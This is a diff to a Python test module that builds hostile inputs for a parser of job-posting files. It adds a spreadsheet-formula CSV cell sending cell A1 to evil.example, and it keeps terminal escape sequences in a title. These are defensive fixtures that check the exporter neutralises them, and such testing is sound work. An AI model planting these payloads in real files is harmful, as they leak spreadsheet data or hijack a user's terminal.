@@ -2,9 +2,10 @@
 
 Small files live in tests/data/hostile/ (escapes in every kind of field and in keys, raw
 control bytes in a body, a raw bidirectional override, a YAML merge-key bomb, NUL bytes,
-mixed line endings, deep nesting). The big ones and the hostile file names are made here,
-at test time: 80,000 keys (about 800 KB), a 1 MB line in the front matter and one in a
-body, names holding ESC sequences, a newline, a C1 control and bytes that are not UTF-8.
+mixed line endings, deep nesting, a title a spreadsheet would run and an integer no float
+holds). The big ones and the hostile file names are made here, at test time: 80,000 keys
+(about 800 KB), a 1 MB line in the front matter and one in a body, names holding ESC
+sequences, a newline, a C1 control and bytes that are not UTF-8.
 """
 
 from __future__ import annotations
@@ -33,6 +34,11 @@ NAMES: dict[bytes, str] = {
 }
 """Hostile file names (bytes) and the title of the posting each holds."""
 ESC_NAME = f"{JOBS}/" + os.fsdecode(next(iter(NAMES)))
+
+BIG = "1" + "0" * 400
+"""The spreadsheet posting's ``count``: YAML reads it as an int, too large for a float."""
+FORMULA_CELL = '"\'=HYPERLINK(""https://evil.example/?""&A1'
+"""The spreadsheet posting's title as its CSV cell: after a ``'``, so shown, never run."""
 
 TITLE_SHOWN = "\\x1b]0;pwned\\x07 \\x1b[2J\\x1b[6n"
 """How the escapes posting's title must be shown: its escapes, visible."""
